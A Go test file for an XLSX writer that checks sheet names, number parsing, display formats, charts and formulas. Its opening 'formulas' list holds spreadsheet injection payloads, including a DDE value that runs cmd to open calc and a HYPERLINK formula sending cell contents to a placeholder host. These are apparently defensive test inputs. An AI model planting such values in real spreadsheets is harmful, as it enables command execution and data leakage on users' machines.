package briefing

import (
	"bytes"
	"math"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/xuri/excelize/v2"
)

// formulas are texts that spreadsheets have been made to run.
var formulas = []string{
	`=1+marker`, `+marker`, `-marker+cmd|' /C calc'!A0`, `@SUM(marker)`, "\t=marker", "\r=marker", `=HYPERLINK("https://example.org/?"&A1,"marker")`, `'=marker`,
}

func writeXLSX(t *testing.T, d *Document) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := WriteXLSX(&b, d); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// checkWorkbook checks what holds for every workbook: sheets have names that Excel
// takes, only numbers have formulas, no cell holds an error, and the text stands in it
// somewhere as text.
func checkWorkbook(t *testing.T, file []byte, text string) *excelize.File {
	t.Helper()
	parts(t, file) // well-formed
	book, err := excelize.OpenReader(bytes.NewReader(file))
	if err != nil {
		t.Fatal(err)
	}
	names := map[string]bool{}
	found := text == ""
	for _, sheet := range book.GetSheetList() {
		low := strings.ToLower(sheet)
		if n := len(utf16.Encode([]rune(sheet))); n == 0 || n > 31 || strings.ContainsAny(sheet, `:\/?*[]`) || strings.HasPrefix(sheet, "'") || strings.HasSuffix(sheet, "'") || names[low] || low == "history" {
			t.Errorf("a sheet named %q", sheet)
		}
		names[low] = true
		rows, err := book.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, shown := range row {
				at, _ := excelize.CoordinatesToCellName(c+1, r+1)
				kind, _ := book.GetCellType(sheet, at)
				formula, _ := book.GetCellFormula(sheet, at)
				if kind == excelize.CellTypeError || strings.HasPrefix(shown, "#") && len(shown) > 1 && kind != excelize.CellTypeSharedString {
					t.Errorf("%s!%s shows %s", sheet, at, shown)
				}
				if formula != "" && strings.Trim(formula, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+-") != "" {
					t.Errorf("%s!%s computes %s", sheet, at, formula)
				}
				if text != "" && shown == strings.TrimRight(clean(text), " ") {
					found = true
					if kind != excelize.CellTypeSharedString || formula != "" {
						t.Errorf("%s!%s: %q is no text", sheet, at, shown)
					}
				}
			}
		}
	}
	if !found {
		t.Errorf("%q is not in the workbook", text)
	}
	return book
}

func TestXLSX(t *testing.T) {
	file := writeXLSX(t, office())
	book := checkWorkbook(t, file, "")
	want := []string{"Contents", "F1 Cost demands and", "T1 No course is best by every", "Notes", "Sources"}
	if got := book.GetSheetList(); !slices.Equal(got, want) {
		t.Fatalf("sheets %q, want %q", got, want)
	}
	sheet := want[2]
	for at, want := range map[string]string{
		"A1": "No course is best by every measure", "A2": "Course", "B2": "Mean, % of product", "D2": "Meets the bar (%)", "F2": "Mean less regret (% of product)",
		"A6": "A regional security order", "E6": "holds", "C6": "5.9", "C5": "10.0", "D3": "47",
	} {
		if got, err := book.GetCellValue(sheet, at); err != nil || got != want {
			t.Errorf("%s is %q, want %q (%v)", at, got, want, err)
		}
	}
	raw, err := book.GetCellValue(sheet, "C5", excelize.Options{RawCellValue: true})
	if kind, _ := book.GetCellType(sheet, "C5"); err != nil || raw != "10" || kind == excelize.CellTypeSharedString {
		t.Errorf("a number is %q of kind %d", raw, kind)
	}
	for r := 3; r <= 7; r++ {
		at := "F" + strconv.Itoa(r)
		formula, _ := book.GetCellFormula(sheet, at)
		if want := "B" + at[1:] + "-C" + at[1:]; formula != want {
			t.Errorf("%s computes %q, want %q", at, formula, want)
		}
		kept, _ := book.GetCellValue(sheet, at, excelize.Options{RawCellValue: true})
		computed, err := book.CalcCellValue(sheet, at, excelize.Options{RawCellValue: true})
		a, _ := strconv.ParseFloat(kept, 64)
		b, _ := strconv.ParseFloat(computed, 64)
		if err != nil || math.Abs(a-b) > 1e-9 || a == 0 {
			t.Errorf("%s holds %s and computes %s (%v)", at, kept, computed, err)
		}
		if kind, _ := book.GetCellType(sheet, at); kind == excelize.CellTypeFormula {
			t.Errorf("%s: the result is called a text", at)
		}
	}
	panes, err := book.GetPanes(sheet)
	if err != nil || !panes.Freeze || panes.YSplit != headRow {
		t.Errorf("panes %+v, %v", panes, err)
	}
	// Where a note is about a number, the sheet of notes says where.
	if got, _ := book.GetCellValue("Notes", "B5"); !strings.HasSuffix(got, ", C6") {
		t.Errorf("a note about %q", got)
	}
	if has, to, _ := book.GetCellHyperLink("Sources", "D3"); !has || to != "https://example.org/keri-2021" {
		t.Errorf("link %q", to)
	}
	if has, to, _ := book.GetCellHyperLink("Sources", "D4"); has {
		t.Errorf("link %q", to)
	}
	trees, _ := parts(t, file)
	charts := 0
	for name, tree := range trees {
		if !strings.HasPrefix(name, "xl/charts/chart") {
			continue
		}
		charts++
		var refs []string
		for _, f := range tree.find("f") {
			refs = append(refs, f.text)
		}
		if column := map[bool]string{true: "C", false: "D"}[name == "xl/charts/chart1.xml"]; !slices.Contains(refs, "'"+sheet+"'!$"+column+"$3:$"+column+"$7") {
			t.Errorf("%s draws %v", name, refs)
		}
		if v := tree.find("showVal"); len(v) == 0 || v[0].attrs["val"] != "1" {
			t.Errorf("%s shows no values", name)
		}
	}
	if charts != 2 {
		t.Errorf("%d charts, not 2", charts)
	}
	if !bytes.Equal(file, writeXLSX(t, office())) {
		t.Error("the same document gives other bytes")
	}
}

// TestFormulaOf: a formula is written only where it gives the number that is stated.
func TestFormulaOf(t *testing.T) {
	n := func(v float64, unit string) Cell { return Cell{Number: &Number{v, unit}} }
	row := []Cell{{Text: Words("x")}, n(5, "%"), n(3, "%"), n(3, "km"), n(math.NaN(), "%"), n(1, "%")}
	for _, k := range []struct {
		value float64
		f     *Formula
		want  string
	}{
		{2, &Formula{Columns: []int{1, 2}}, "B7-C7"},
		{1, &Formula{Columns: []int{1, 2, 5}}, "B7-C7-F7"},
		{9, &Formula{Sum: true, Columns: []int{1, 2, 5}}, "B7+C7+F7"},
		{2.1, &Formula{Columns: []int{1, 2}}, ""},
		{2, &Formula{Columns: []int{1, 3}}, ""}, // other units
		{2, &Formula{Columns: []int{1, 4}}, ""},
		{5, &Formula{Columns: []int{1}}, ""},
		{5, &Formula{Columns: []int{1, 0}}, ""},
		{5, &Formula{Columns: []int{1, 77}}, ""},
		{5, &Formula{Columns: []int{-1, 1}}, ""},
		{5, nil, ""},
	} {
		c := n(k.value, "%")
		c.Formula = k.f
		if got := formulaOf(c, row, 7); got != k.want {
			t.Errorf("%g by %+v is %q, want %q", k.value, k.f, got, k.want)
		}
	}
}

func TestDigits(t *testing.T) {
	for _, k := range []struct {
		text  string
		value float64
		want  string
	}{
		{"47 %", 46.6, "0"},
		{"−5.90", -5.9, "0.00"},
		{"1,234", 1234.4, "#,##0"},
		{"2,600.5 tn won", 2600.51, "#,##0.0"},
		{"1.2 million", 1.2e6, "General"},
		{"none", 3, "General"},
		{"1e20", 1e20, "0.0E+00"},
		{"0.0000001", 1e-7, "0.0E+00"},
		{"0", 0, "0"},
	} {
		if got := digits(k.text, k.value); got != k.want {
			t.Errorf("%s (%g) is shown as %s, want %s", k.text, k.value, got, k.want)
		}
	}
}

func TestReadNumbers(t *testing.T) {
	texts := []string{"36", "−52", "-52", "–1.5", "47 %", "1,234.5", "5 to 95", "2026-01-01", "–", "", "1,23", "under 1 %", "1e5", "=1"}
	want := map[string]float64{"36": 36, "−52": -52, "-52": -52, "–1.5": -1.5, "47 %": 47, "1,234.5": 1234.5}
	for _, text := range texts {
		table := &Table{Rows: [][]Cell{{{Text: Words("7")}, {Text: Words(text)}}}}
		readNumbers(table)
		n := table.Rows[0][1].Number
		if v, ok := want[text]; ok != (n != nil) || ok && n.Value != v {
			t.Errorf("%q is read as %+v", text, n)
		}
		if table.Rows[0][0].Number != nil {
			t.Error("the name of a row is read as a number")
		}
	}
}

// TestMixedUnits: where units differ down a column they stand in the cells.
func TestMixedUnits(t *testing.T) {
	d := &Document{Blocks: []Block{Table{Head: []Text{Words("Input"), Words("Value")}, Rows: [][]Cell{
		{{Text: Words("a")}, {Text: Words("3.5"), Number: &Number{3.5, "%"}}},
		{{Text: Words("b")}, {Text: Words("12"), Number: &Number{12, `tn "won"`}}},
		{{Text: Words("c")}, {Text: Words("∞"), Number: &Number{math.Inf(1), "%"}}},
	}}}}
	book := checkWorkbook(t, writeXLSX(t, d), "∞")
	sheet := book.GetSheetList()[1]
	for at, want := range map[string]string{"B2": "Value", "B3": "3.5 %", "B4": "12 tn won", "B5": "∞"} {
		if got, _ := book.GetCellValue(sheet, at); got != want {
			t.Errorf("%s is %q, want %q", at, got, want)
		}
	}
}

func TestSheetNames(t *testing.T) {
	n, err := number(&Document{})
	if err != nil {
		t.Fatal(err)
	}
	x := &xlsx{numbered: n, taken: map[string]bool{}}
	long := "모든 요구를 한꺼번에 들어주는 경로와 자율 국방의 병행 추진 방안 그리고 더"
	for _, k := range [][2]string{
		{"Courses", "Courses"},
		{"COURSES", "COURSES 2"},
		{"", "Table"},
		{"History", "Table History"},
		{"a/b:c*d?[e]\\f", "a b c d e f"},
		{"'quoted'", "quoted"},
		{long, "모든 요구를 한꺼번에 들어주는 경로와 자율 국방의"},
		{long, "모든 요구를 한꺼번에 들어주는 경로와 자율 국방의 2"},
		{strings.Repeat("x", 40), strings.Repeat("x", 31)},
		{strings.Repeat("x", 40), strings.Repeat("x", 29) + " 2"},
	} {
		if got := x.sheetName(k[0]); got != k[1] {
			t.Errorf("%q becomes %q, want %q", k[0], got, k[1])
		}
	}
}
